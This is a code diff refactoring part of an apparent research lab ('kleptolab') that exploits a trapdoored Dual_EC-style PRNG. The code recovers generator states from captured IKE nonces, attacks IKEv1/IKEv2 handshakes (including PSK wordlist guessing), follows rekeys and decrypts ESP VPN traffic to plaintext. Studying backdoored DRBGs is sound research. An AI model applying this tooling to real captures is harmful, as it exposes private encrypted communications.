@@ -8,6 +8,11 @@ the others are swept (2^16, in parallel, cached per nonce; see
 against every walk (multi-connection attack).  Later rounds do the same for
 child-exchange nonces (Quick Mode, CREATE_CHILD_SA).  Then ESP is decrypted
 with ICVs verified.
+
+This module holds the attack on one gateway's IKE SAs (:func:`attack_sessions`);
+:mod:`kleptolab.attack.pipeline` runs it per gateway over many captures, on an
+engine, and streams the ESP stage.  :func:`decrypt_capture` is the one-capture,
+in-memory entry point.
 """
 
 from __future__ import annotations
@@ -16,31 +21,30 @@ import time
 from collections.abc import Callable
 from dataclasses import dataclass, field
 from pathlib import Path
-from typing import Any
+from typing import TYPE_CHECKING, Any
 
-from kleptolab.attack.anchoring import CACHE, PREDICTED, SWEEP, Recovery, Sighting, anchor_nonces
-from kleptolab.attack.engine import Engine, recover_all
+from kleptolab.attack.anchoring import (
+    Recovery,
+    Sighting,
+    Sweep,
+    anchor_nonces,
+)
 from kleptolab.attack.errors import AttackFailure
+from kleptolab.attack.forward import DEFAULT_WINDOW, ForwardWindow, Lineage
 from kleptolab.attack.ikev1_attack import Ikev1Handshake, Ikev1Outcome, attack_ikev1, parse_ikev1
 from kleptolab.attack.ikev2_attack import Ikev2Handshake, Ikev2Outcome, attack_ikev2, parse_ikev2
-from kleptolab.attack.ikev2_rekey import adopt_rekeys, rekey_chains
+from kleptolab.attack.ikev2_rekey import adopt_rekeys
 from kleptolab.attack.outputs import EspSaRow, Ikev1Row, Ikev2Row
 from kleptolab.attack.prng_walk import PrngWalker
-from kleptolab.attack.recovery import NONCE_SIZE, StateCache
-from kleptolab.capture import (
-    EspPacket,
-    IkePacket,
-    classify_all,
-    group_esp_sas,
-    group_ike_sas,
-    no_ike_hint,
-    read_capture,
-)
-from kleptolab.drbg.trapdoor import Trapdoor
-from kleptolab.esp.errors import EspError
-from kleptolab.esp.packet import NEXT_HEADER_IPV4, NEXT_HEADER_IPV6
+from kleptolab.attack.recovery import NONCE_SIZE, NonceCache
+from kleptolab.capture import IkePacket
 
-__all__ = ["NOT_DUAL_EC", "WRONG_Q", "DecryptOptions", "DecryptResult", "decrypt_capture"]
+if TYPE_CHECKING:
+    from kleptolab.attack.engine import Engine
+    from kleptolab.drbg.trapdoor import Trapdoor
+
+__all__ = ["NOT_DUAL_EC", "WRONG_Q", "DecryptOptions", "DecryptResult", "GatewayAttack", "Rekeyable",
+           "attack_sessions", "decrypt_capture", "parse_session"]
 
 Progress = Callable[[str, int, int], None]
 Handshake = Ikev1Handshake | Ikev2Handshake
@@ -55,13 +59,15 @@ MAX_ROUNDS = 4
 
 @dataclass(frozen=True)
 class DecryptOptions:
-    """Tunables of one run (``psk_wordlist``: IKEv1 PSK guesses, tried in order)."""
+    """Tunables of one run (``psk_wordlist``: IKEv1 PSK guesses, tried in order;
+    ``window``: calls walked forward from a gateway's stored states before a sweep)."""
 
     steps: int = 64
     exponent_bytes: int = 20
     psk: bytes | None = None
     quirk_shifts: int = 0
     psk_wordlist: tuple[bytes, ...] = ()
+    window: int = DEFAULT_WINDOW
     ike_ports: frozenset[int] = frozenset()
     """UDP ports to read as IKE/NAT-T whatever their content (IKE elsewhere is found by content)."""
 
@@ -81,7 +87,9 @@ def _sid(spis: tuple[bytes, bytes]) -> str:
     return f"{spis[0].hex()}:{spis[1].hex()}"
 
 
-def _parse(spis: tuple[bytes, bytes], group: list[IkePacket]) -> tuple[dict[str, Any], Handshake | None]:
+def parse_session(
+    spis: tuple[bytes, bytes], group: list[IkePacket]
+) -> tuple[dict[str, Any], Handshake | None]:
     """The report entry of one IKE SA and its handshake (None: not attackable, entry says why)."""
     first = group[0]
     version = first.version
@@ -105,36 +113,47 @@ def _parse(spis: tuple[bytes, bytes], group: list[IkePacket]) -> tuple[dict[str,
     return entry, h
 
 
-def decrypt_capture(
-    capture: Path, trapdoor: Trapdoor, engine: Engine, cache: StateCache,
+@dataclass
+class GatewayAttack:
+    """What :func:`attack_sessions` found for one gateway's handshakes."""
+
+    outcomes: dict[str, Outcome]
+    recoveries: dict[bytes, tuple[str, Recovery]]  # nonce -> (session, how)
+    walker: PrngWalker
+    lineage: Lineage
+    timings: dict[str, float]
+    session_s: dict[str, float]  # attack time per IKE SA
+    adopted: list[Handshake] = field(default_factory=list)  # IKE SAs found by following rekeys
+
+
+def attack_sessions(
+    handshakes: list[Handshake], q: tuple[int, int], sweep: Sweep, cache: NonceCache,
     options: DecryptOptions = DecryptOptions(), progress: Progress | None = None,
-) -> DecryptResult:
-    """Run the whole attack on ``capture``; ``ValueError`` only if it is not a capture at all."""
-    started = time.perf_counter()
-    cap = read_capture(capture)
-    packets = classify_all(cap.datagrams, options.ike_ports)
-    hint = no_ike_hint(cap.datagrams, packets)
-    sessions: list[dict[str, Any]] = []
-    handshakes: list[Handshake] = []
-    ike_groups = group_ike_sas(packets)
-    for spis, group in ike_groups.items():
-        entry, h = _parse(spis, group)
-        sessions.append(entry)
-        if h is not None:
-            handshakes.append(h)
-    walker = PrngWalker(trapdoor.q, options.steps, options.exponent_bytes)
+    window: ForwardWindow | None = None, lineage: Lineage | None = None,
+    rekeyable: Rekeyable | None = None,
+) -> GatewayAttack:
+    """Anchor the PRNG walk at every responder nonce of ``handshakes`` (one gateway), then attack each SA.
+
+    ``sweep`` recovers the states of nonces nothing predicts; ``window`` holds the
+    gateway's stored states (walked before any sweep); ``lineage`` receives the
+    draw position of every state recovered.  ``rekeyable``: the IKE SAs without an
+    IKE_SA_INIT of their own (message groups and report entries), which an IKEv2
+    IKE SA rekey (RFC 7296 §2.18) found in a parent's messages turns into more SAs
+    to attack, round after round (:func:`~kleptolab.attack.ikev2_rekey.adopt_rekeys`).
+    """
+    rekeyable = rekeyable if rekeyable is not None else Rekeyable()
+    handshakes = list(handshakes)
+    adopted_ids: set[str] = set()
+    adopted: list[Handshake] = []
+    walker = PrngWalker(q, options.steps, options.exponent_bytes)
+    lineage = lineage if lineage is not None else Lineage()
     timings: dict[str, float] = {"recovery_s": 0.0, "sweep_s": 0.0}
     walked: set[bytes] = set()
-    recoveries: dict[bytes, Recovery] = {}
+    recoveries: dict[bytes, tuple[str, Recovery]] = {}
 
-    def sweep_tick(done: int, total: int) -> None:
-        if progress is not None:
-            progress("sweeping 2^16 prefixes", done, total)
-
-    def sweep(nonces: list[bytes]) -> dict[bytes, list[int]]:
+    def timed_sweep(nonces: list[bytes]) -> dict[bytes, list[int]]:
         t0 = time.perf_counter()
-        states = recover_all(nonces, trapdoor, engine, cache, quirk_shifts=options.quirk_shifts,
-                             progress=sweep_tick)
+        states = sweep(nonces)
         timings["sweep_s"] += time.perf_counter() - t0
         return states
 
@@ -145,20 +164,24 @@ def decrypt_capture(
 
         t0 = time.perf_counter()
         walked.update(s.nonce for s in sightings)
-        recoveries.update(anchor_nonces(sightings, walker, sweep, cache, tick))
+        owner: dict[bytes, str] = {}
+        for s in sorted(sightings, key=lambda s: s.order):
+            owner.setdefault(s.nonce, s.session)
+        # one gateway's nonces: one at a time is the fewest sweeps (gateways run in parallel)
+        found = anchor_nonces(sightings, walker, timed_sweep, cache, tick, window, lineage, grow=False)
+        recoveries.update({n: (owner[n], r) for n, r in found.items()})
         timings["recovery_s"] += time.perf_counter() - t0
 
     # capture order: the walk from an early state predicts later nonces, which then cost no sweep
     recover([Sighting(h.sid, "IKEv1 phase-1 Nr" if isinstance(h, Ikev1Handshake) else "IKE_SA_INIT Nr",
                       h.nr, h.nr_order) for h in sorted(handshakes, key=lambda h: h.nr_order)])
-    by_id = {s["id"]: s for s in sessions}
     outcomes: dict[str, Outcome] = {}
+    session_s: dict[str, float] = {}
     cracked: dict[str, tuple[bytes, dict[str, object]]] = {}
     todo = list(handshakes)
-    adopted: set[str] = set()
     t_attack, r_before = time.perf_counter(), timings["recovery_s"]
     # each IKE SA rekey may need a round of its own
-    for _round in range(MAX_ROUNDS + len(sessions)):
+    for _round in range(MAX_ROUNDS + len(handshakes) + len(rekeyable.groups)):
         extra: list[Sighting] = []
         rekeyed: list[Handshake] = []
         for i, h in enumerate(todo):
@@ -167,9 +190,10 @@ def decrypt_capture(
             t0 = time.perf_counter()
             out = _attack(h, walker, options, cracked)
             outcomes[h.sid] = out
-            by_id[h.sid]["time_s"] = round(time.perf_counter() - t0, 4)
+            session_s[h.sid] = round(time.perf_counter() - t0, 4)
             if isinstance(out, Ikev2Outcome):
-                rekeyed += adopt_rekeys(out, ike_groups, by_id, sessions, adopted)
+                rekeyed += adopt_rekeys(out, rekeyable.groups, rekeyable.entries, rekeyable.new_entries,
+                                        adopted_ids)
             label = "Quick Mode Nr" if isinstance(h, Ikev1Handshake) else "CREATE_CHILD_SA Nr"
             for n, o in out.child_nonces:
                 if len(n) == NONCE_SIZE and n not in walked:
@@ -178,6 +202,7 @@ def decrypt_capture(
         if progress is not None:
             progress("attacking IKE SAs", len(todo), len(todo))
         handshakes += rekeyed
+        adopted += rekeyed
         if not extra and not rekeyed:
             break
         if extra:
@@ -187,45 +212,54 @@ def decrypt_capture(
     timings["attack_s"] = time.perf_counter() - t_attack - (timings["recovery_s"] - r_before)
     for h in handshakes:  # a walk that predicts another connection's nonce confirms its state
         walker.find_output(h.nr)
-    result = DecryptResult(report={})
-    owner: dict[tuple[bytes, str, str], str] = {}
-    for h in handshakes:
-        out, entry = outcomes[h.sid], by_id[h.sid]
-        _report(h, out, entry, walker, cache)
-        rec = recoveries.get(h.nr)
-        if rec is not None:
-            entry["recovered_by"] = rec.describe()
-            entry["recovery"] = rec.to_json()
-        if out.failure is not None:
-            continue
-        if isinstance(out, Ikev1Outcome) and out.row is not None:
-            result.ikev1.append(out.row)
-        elif isinstance(out, Ikev2Outcome) and out.row is not None:
-            result.ikev2.append(out.row)
-        for row in out.esp:
-            owner[(row.spi, row.src, row.dst)] = h.sid
-            result.esp.append(row)
-    t0 = time.perf_counter()
-    esp_report = _decrypt_esp(packets, {(r.spi, r.src, r.dst): r for r in result.esp}, result, progress)
-    timings["esp_s"] = time.perf_counter() - t0
-    for e in esp_report:
-        sid = owner.get((bytes.fromhex(e["spi"]), e["src"], e["dst"]))
-        if sid is not None:
-            by_id[sid]["esp_packets"] = by_id[sid].get("esp_packets", 0) + e["decrypted"]
-    result.report = {
-        "capture": str(capture),
-        "frames": cap.frame_count,
-        "warnings": cap.warnings + ([hint] if hint else []),
-        "sessions": sessions,
-        "esp": esp_report,
-        "anchors_walked": len(walker.anchors),
-        "nonce_recovery": {how: sum(r.how == how for r in recoveries.values()) for how in (SWEEP, PREDICTED, CACHE)},
-        "walk_steps": options.steps,
-        "ike_rekey_chains": rekey_chains(sessions),
-        "timings": {**{k: round(v, 3) for k, v in timings.items()},
-                    "total_s": round(time.perf_counter() - started, 3)},
-    }
-    return result
+    return GatewayAttack(outcomes, recoveries, walker, lineage, timings, session_s, adopted)
+
+
+@dataclass
+class Rekeyable:
+    """IKE SAs a gateway's capture(s) show without an IKE_SA_INIT: candidates for rekeyed SAs.
+
+    ``groups``: their messages by (SPIi, SPIr); ``entries``: their report entries by
+    session id (updated in place when adopted); ``new_entries`` receives the entries
+    of rekeyed SAs that had none.
+    """
+
+    groups: dict[tuple[bytes, bytes], list[IkePacket]] = field(default_factory=dict)
+    entries: dict[str, dict[str, Any]] = field(default_factory=dict)
+    new_entries: list[dict[str, Any]] = field(default_factory=list)
+
+
+def report_session(
+    h: Handshake, entry: dict[str, Any], found: GatewayAttack, cache: NonceCache
+) -> Outcome:
+    """Fill ``entry`` (report.json) for ``h`` from the gateway attack; returns its outcome."""
+    out = found.outcomes[h.sid]
+    entry["time_s"] = found.session_s.get(h.sid, 0.0)
+    _report(h, out, entry, found.walker, cache)
+    rec = found.recoveries.get(h.nr)
+    if rec is not None:
+        entry["recovered_by"] = rec[1].describe()
+        entry["recovery"] = rec[1].to_json()
+    return out
+
+
+def decrypt_capture(
+    capture: Path, trapdoor: Trapdoor, engine: Engine, cache: NonceCache,
+    options: DecryptOptions = DecryptOptions(), progress: Progress | None = None,
+) -> DecryptResult:
+    """Run the whole attack on ``capture`` (plaintext kept in memory); ``ValueError`` only
+    if it is not a capture at all.  ``cache``: a :class:`~kleptolab.attack.store.StateStore`
+    (or any :class:`~kleptolab.attack.recovery.NonceCache`)."""
+    from kleptolab.attack.engine import LocalEngine
+    from kleptolab.attack.pipeline import decrypt_many
+
+    try:
+        run = decrypt_many([capture], trapdoor, engine, cache, options, progress=progress)
+    finally:
+        if isinstance(engine, LocalEngine):
+            engine.close()  # no worker processes left behind (the pool restarts on the next use)
+    one = run.captures[0]
+    return DecryptResult(one.report, one.ikev1, one.ikev2, one.esp, one.plaintext or [])
 
 
 def _attack(
@@ -245,10 +279,10 @@ def _attack(
     return out
 
 
-def _report(h: Handshake, out: Outcome, entry: dict[str, Any], walker: PrngWalker, cache: StateCache) -> None:
+def _report(h: Handshake, out: Outcome, entry: dict[str, Any], walker: PrngWalker, cache: NonceCache) -> None:
     entry["candidate_states"] = [f"{s:064x}" for s in cache.get(h.nr) or []]
     entry["confirmed_states"] = {f"{a.state:064x}": walker.confirmations(a)
-                                 for a in walker.anchors if a.nonce == h.nr and walker.confirmations(a)}
+                                 for a in walker.anchors_for(h.nr) if walker.confirmations(a)}
     if isinstance(out, Ikev1Outcome):
         entry["auth_check"] = out.auth_check
         if out.psk is not None:
@@ -270,38 +304,3 @@ def _report(h: Handshake, out: Outcome, entry: dict[str, Any], walker: PrngWalke
     entry["ike_messages_failed"] = out.undecrypted
     entry["ike_messages_retransmitted"] = out.retransmitted
     entry["child_sas"] = out.children
-
-
-def _decrypt_esp(
-    packets: list[IkePacket | EspPacket], rows: dict[tuple[bytes, str, str], EspSaRow], result: DecryptResult,
-    progress: Progress | None,
-) -> list[dict[str, Any]]:
-    """Verify and decrypt every ESP packet whose SA keys were recovered (one EspSa per SA)."""
-    report = []
-    groups = group_esp_sas(packets)
-    total = sum(len(g) for g in groups.values())
-    done = 0
-    for (spi, src, dst), group in groups.items():
-        row = rows.get((spi, src, dst))
-        ok = bad = other = 0
-        if row is not None:
-            sa = row.sa()
-            for p in group:
-                try:
-                    opened = sa.unprotect(p.data)
-                except EspError:
-                    bad += 1
-                    continue
-                ok += 1
-                if opened.next_header in (NEXT_HEADER_IPV4, NEXT_HEADER_IPV6):
-                    result.plaintext.append((p.timestamp, opened.payload))
-                else:
-                    other += 1
-        done += len(group)
-        if progress is not None:
-            progress("decrypting ESP", done, total)
-        report.append({"spi": spi.hex(), "src": src, "dst": dst, "packets": len(group),
-                       "decrypted": ok, "icv_failed": bad, "not_tunnel_mode": other,
-                       "failure": None if row is not None else "no keys recovered for this SPI"})
-    result.plaintext.sort(key=lambda t: t[0])
-    return report
